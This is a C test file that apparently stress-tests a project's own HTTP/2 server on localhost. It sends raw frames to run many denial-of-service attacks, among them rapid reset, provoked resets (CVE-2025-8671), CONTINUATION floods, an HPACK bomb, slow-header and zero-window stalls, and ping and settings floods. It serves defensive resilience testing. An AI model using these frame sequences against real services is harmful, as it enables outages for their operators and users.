/* Attacks with HTTP/2 in the clear, as raw frames: no library would send them. */
#include <nghttp2/nghttp2.h> /* its names for frames, flags and settings */

#include "tests/lib/attack.h"

enum {
    BATCH = 200, /* frames sent at a time */
    STREAMS = 256,
    FRAME_BYTES = 16 * 1024,
    STREAM_LAST = 0x7ffffff0,
    ENDS = NGHTTP2_FLAG_END_STREAM | NGHTTP2_FLAG_END_HEADERS,
};

static void put_frame_head(struct buf *out, size_t len, uint8_t type, uint8_t flags,
                           uint32_t stream)
{
    buf_append_u32(out, (uint32_t)len << 8 | type);
    buf_append_byte(out, flags);
    buf_append_u32(out, stream);
}

static void put_frame(struct assailant *a, uint8_t type, uint8_t flags, uint32_t stream,
                      const void *payload, size_t len)
{
    put_frame_head(&a->out, len, type, flags, stream);
    buf_append(&a->out, payload, len);
    attack_did(a, 1);
}

static void put_u32_frame(struct assailant *a, uint8_t type, uint32_t stream, uint32_t number)
{
    put_frame_head(&a->out, 4, type, 0, stream);
    buf_append_u32(&a->out, number);
    attack_did(a, 1);
}

/* HPACK: a literal, not indexed, not compressed. */
static void put_text(struct buf *block, const char *text)
{
    buf_append_byte(block, (uint8_t)strlen(text)); /* less than 127 */
    buf_append_str(block, text);
}

static void put_field(struct buf *block, const char *name, const char *value)
{
    buf_append_byte(block, 0x00);
    put_text(block, name);
    put_text(block, value);
}

static void put_request(struct buf *block, const char *method, const char *path)
{
    put_field(block, ":method", method);
    put_field(block, ":scheme", "http");
    put_field(block, ":authority", "localhost");
    put_field(block, ":path", path);
}

/* The next stream; a connection whose streams are used up ends. */
static uint32_t next_stream(struct assailant *a)
{
    a->stream = a->stream == 0 ? 1 : a->stream + 2;
    a->is_finished = a->is_finished || a->stream >= STREAM_LAST;
    return a->stream;
}

static void put_block(struct assailant *a, uint8_t flags, const struct buf *block)
{
    put_frame(a, NGHTTP2_HEADERS, flags, next_stream(a), block->data, block->len);
}

static void ask(struct assailant *a, uint8_t flags, const char *method, const char *path)
{
    struct buf block = {0};
    put_request(&block, method, path);
    put_block(a, flags, &block);
    buf_done(&block);
}

static void put_setting(struct buf *settings, uint16_t id, uint32_t value)
{
    buf_append_u16(settings, id);
    buf_append_u32(settings, value);
}

static void greet_with(struct assailant *a, uint32_t window)
{
    struct buf settings = {0};
    put_setting(&settings, NGHTTP2_SETTINGS_INITIAL_WINDOW_SIZE, window);
    buf_append_str(&a->out, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
    put_frame(a, NGHTTP2_SETTINGS, 0, 0, settings.data, settings.len);
    buf_done(&settings);
}

static void greet(struct assailant *a)
{
    greet_with(a, 65535);
}

/* Streams that are opened in vain */

static void reset(struct assailant *a, uint32_t stream)
{
    put_u32_frame(a, NGHTTP2_RST_STREAM, stream, NGHTTP2_CANCEL);
}

static void rapid_reset(struct assailant *a)
{
    for (int i = 0; i < BATCH; i++) {
        ask(a, ENDS, "GET", "/v1/attack/Store/small/kv/k");
        reset(a, a->stream);
    }
}

static void rapid_reset_writes(struct assailant *a)
{
    for (int i = 0; i < BATCH; i++) {
        ask(a, NGHTTP2_FLAG_END_HEADERS, "PUT", "/v1/attack/Store/small/kv/r");
        put_frame(a, NGHTTP2_DATA, NGHTTP2_FLAG_END_STREAM, a->stream, "12345678", 8);
        reset(a, a->stream);
    }
}

/* The node is made to reset: CVE-2025-8671. */
static void provoked_resets(struct assailant *a)
{
    for (int i = 0; i < BATCH; i++) {
        ask(a, ENDS, "GET", "/v1/attack/Store/small/kv/k");
        put_u32_frame(a, NGHTTP2_WINDOW_UPDATE, a->stream, 0);
    }
}

static void broken_requests(struct assailant *a)
{
    for (int i = 0; i < BATCH; i++) {
        struct buf block = {0};
        put_request(&block, "GET", "/");
        put_field(&block, "connection", "close");
        put_block(a, ENDS, &block);
        buf_done(&block);
    }
}

static void requests(struct assailant *a)
{
    for (int i = 0; i < BATCH; i++) {
        ask(a, ENDS, "GET", "/v1/attack/Store/small/kv/k");
    }
}

/* Header blocks */

static void begin_block(struct assailant *a)
{
    greet(a);
    ask(a, NGHTTP2_FLAG_END_STREAM, "GET", "/");
}

static void continuations(struct assailant *a)
{
    struct buf block = {0};
    put_field(&block, "x", "y");
    for (int i = 0; i < BATCH; i++) {
        put_frame(a, NGHTTP2_CONTINUATION, 0, 1, block.data, block.len);
    }
    buf_done(&block);
}

static void empty_continuations(struct assailant *a)
{
    for (int i = 0; i < BATCH; i++) {
        put_frame(a, NGHTTP2_CONTINUATION, 0, 1, "", 0);
    }
}

/* A field of 4 000 bytes enters the table; each byte then stands for it. */
static void hpack_bomb(struct assailant *a)
{
    struct buf block = {0};
    put_request(&block, "GET", "/");
    buf_append_byte(&block, 0x40); /* indexed from now on */
    put_text(&block, "bomb");
    static const uint8_t length[] = {0x7f, 0xa1, 0x1e}; /* 4000 */
    buf_append(&block, length, sizeof length);
    memset(buf_extend(&block, 4000), 'b', 4000);
    memset(buf_extend(&block, 8000), 0x80 | 62, 8000);
    put_block(a, ENDS, &block);
    buf_done(&block);
}

static void fill_fields(struct buf *block, size_t bytes)
{
    char value[120];
    memset(value, 'v', sizeof value);
    value[sizeof value - 1] = '\0';
    while (block->len + sizeof value + 16 <= bytes) {
        put_field(block, "x-fat", value);
    }
}

/* 12 KB of fields a stream, whose request does not end. */
static void fat_streams(struct assailant *a)
{
    if (a->step++ >= STREAMS) {
        return;
    }
    struct buf block = {0};
    put_request(&block, "PUT", "/v1/attack/Store/fat/kv/k");
    fill_fields(&block, 12 * 1024);
    put_block(a, NGHTTP2_FLAG_END_HEADERS, &block);
    buf_done(&block);
}

static void huge_blocks(struct assailant *a)
{
    struct buf block = {0};
    put_request(&block, "GET", "/");
    fill_fields(&block, FRAME_BYTES);
    put_block(a, NGHTTP2_FLAG_END_STREAM, &block);
    for (int i = 0; i < 6; i++) {
        buf_clear(&block);
        fill_fields(&block, FRAME_BYTES);
        put_frame(a, NGHTTP2_CONTINUATION, i == 5 ? NGHTTP2_FLAG_END_HEADERS : 0, a->stream,
                  block.data, block.len);
    }
    buf_done(&block);
}

static void begin_slow_block(struct assailant *a)
{
    greet(a);
    put_frame_head(&a->out, FRAME_BYTES, NGHTTP2_HEADERS, ENDS, 1);
    buf_append(&a->out, "\x00\x7f\xff\x3e", 4); /* a name of some 8 000 bytes */
}

static void drip(struct assailant *a)
{
    buf_append_byte(&a->out, 'x');
    attack_did(a, 1);
}

/* Frames without use */

static void pings(struct assailant *a)
{
    for (int i = 0; i < BATCH; i++) {
        put_frame(a, NGHTTP2_PING, 0, 0, "12345678", 8);
    }
}

static void settings(struct assailant *a)
{
    struct buf entries = {0};
    put_setting(&entries, NGHTTP2_SETTINGS_HEADER_TABLE_SIZE, a->step++ % 2 * 4096);
    put_setting(&entries, NGHTTP2_SETTINGS_INITIAL_WINDOW_SIZE, a->step % 1000 * 1000);
    for (int i = 0; i < BATCH; i++) {
        put_frame(a, NGHTTP2_SETTINGS, 0, 0, entries.data, entries.len);
    }
    buf_done(&entries);
}

static void window_updates(struct assailant *a)
{
    for (int i = 0; i < BATCH; i++) {
        put_u32_frame(a, NGHTTP2_WINDOW_UPDATE, 0, 1);
    }
}

static void priorities(struct assailant *a)
{
    for (int i = 0; i < BATCH; i++) {
        put_frame(a, NGHTTP2_PRIORITY, 0, 2 * (a->step++ % 100000) + 1, "\0\0\0\0\20", 5);
    }
}

static void begin_request(struct assailant *a)
{
    greet(a);
    ask(a, NGHTTP2_FLAG_END_HEADERS, "PUT", "/v1/attack/Store/small/kv/k");
}

static void empty_data(struct assailant *a)
{
    for (int i = 0; i < BATCH; i++) {
        put_frame(a, NGHTTP2_DATA, 0, 1, "", 0);
    }
}

static void unknown_frames(struct assailant *a)
{
    for (int i = 0; i < BATCH; i++) {
        put_frame(a, 0xfa, 0, 0, "12345678", 8);
    }
}

/* Bodies */

static void slow_streams(struct assailant *a)
{
    if (a->step < STREAMS) {
        a->step++;
        ask(a, NGHTTP2_FLAG_END_HEADERS, "PUT", "/v1/attack/Store/small/kv/k");
    }
    for (uint32_t stream = 1; stream <= a->stream; stream += 2) {
        put_frame(a, NGHTTP2_DATA, 0, stream, " ", 1);
    }
}

/* As much of each body as its window lets in, and no end. */
static void fat_bodies(struct assailant *a)
{
    enum { PIECES = 4 };
    static const uint8_t piece[FRAME_BYTES];
    if (a->step++ >= STREAMS) {
        return;
    }
    ask(a, NGHTTP2_FLAG_END_HEADERS, "PUT", "/v1/attack/Store/fat/kv/k");
    for (int i = 0; i < PIECES; i++) {
        put_frame(a, NGHTTP2_DATA, 0, a->stream, piece, sizeof piece - 1);
    }
}

/* Answers that are not taken */

static void ask_for_much(struct assailant *a)
{
    for (int i = 0; i < STREAMS; i++) {
        ask(a, ENDS, "GET", ATTACK_LARGE_PATH);
    }
}

static void begin_without_window(struct assailant *a)
{
    greet_with(a, 0);
    ask_for_much(a);
}

/* One byte of each answer at a time. */
static void open_windows_a_little(struct assailant *a)
{
    for (uint32_t stream = 1; stream < 2 * STREAMS; stream += 2) {
        put_u32_frame(a, NGHTTP2_WINDOW_UPDATE, stream, 1);
    }
}

static void begin_with_wide_window(struct assailant *a)
{
    greet_with(a, 0x7fffffff);
    put_u32_frame(a, NGHTTP2_WINDOW_UPDATE, 0, 0x7fff0000 - 65535);
    ask_for_much(a);
}

static void begin_watches(struct assailant *a)
{
    greet_with(a, 0);
    for (int i = 0; i < STREAMS; i++) {
        ask(a, ENDS, "GET", "/v1/attack/Store/large/watch?values=true");
    }
}

const struct attack attacks_http2[] = {
    {.name = "h2-idle", .connections = 10000, .stays_closed = true, .begin = greet},
    {.name = "h2-rapid-reset", .connections = 100, .begin = greet, .go_on = rapid_reset},
    {.name = "h2-rapid-reset-writes",
     .connections = 100,
     .begin = greet,
     .go_on = rapid_reset_writes},
    {.name = "h2-provoked-resets", .connections = 100, .begin = greet, .go_on = provoked_resets},
    {.name = "h2-broken-requests", .connections = 100, .begin = greet, .go_on = broken_requests},
    {.name = "h2-requests", .connections = 100, .begin = greet, .go_on = requests},
    {.name = "h2-continuations", .connections = 100, .begin = begin_block, .go_on = continuations},
    {.name = "h2-empty-continuations",
     .connections = 100,
     .begin = begin_block,
     .go_on = empty_continuations},
    {.name = "h2-hpack-bomb", .connections = 100, .begin = greet, .go_on = hpack_bomb},
    {.name = "h2-fat-streams", .connections = 500, .begin = greet, .go_on = fat_streams},
    {.name = "h2-huge-blocks", .connections = 100, .begin = greet, .go_on = huge_blocks},
    {.name = "h2-slow-headers",
     .connections = 10000,
     .pace_ms = 500,
     .begin = begin_slow_block,
     .go_on = drip},
    {.name = "h2-pings", .connections = 100, .begin = greet, .go_on = pings},
    {.name = "h2-pings-deaf", .connections = 1000, .is_deaf = true, .begin = greet, .go_on = pings},
    {.name = "h2-settings", .connections = 100, .begin = greet, .go_on = settings},
    {.name = "h2-settings-deaf",
     .connections = 1000,
     .is_deaf = true,
     .begin = greet,
     .go_on = settings},
    {.name = "h2-window-updates", .connections = 100, .begin = greet, .go_on = window_updates},
    {.name = "h2-priorities", .connections = 100, .begin = greet, .go_on = priorities},
    {.name = "h2-empty-data", .connections = 100, .begin = begin_request, .go_on = empty_data},
    {.name = "h2-unknown-frames", .connections = 100, .begin = greet, .go_on = unknown_frames},
    {.name = "h2-slow-bodies",
     .connections = 1000,
     .pace_ms = 1000,
     .begin = greet,
     .go_on = slow_streams},
    {.name = "h2-fat-bodies", .connections = 500, .begin = greet, .go_on = fat_bodies},
    {.name = "h2-zero-window", .connections = 1000, .begin = begin_without_window},
    {.name = "h2-small-windows",
     .connections = 200,
     .pace_ms = 500,
     .begin = begin_without_window,
     .go_on = open_windows_a_little},
    {.name = "h2-deaf", .connections = 1000, .is_deaf = true, .begin = begin_with_wide_window},
    {.name = "h2-watches", .connections = 100, .begin = begin_watches},
    {0},
};
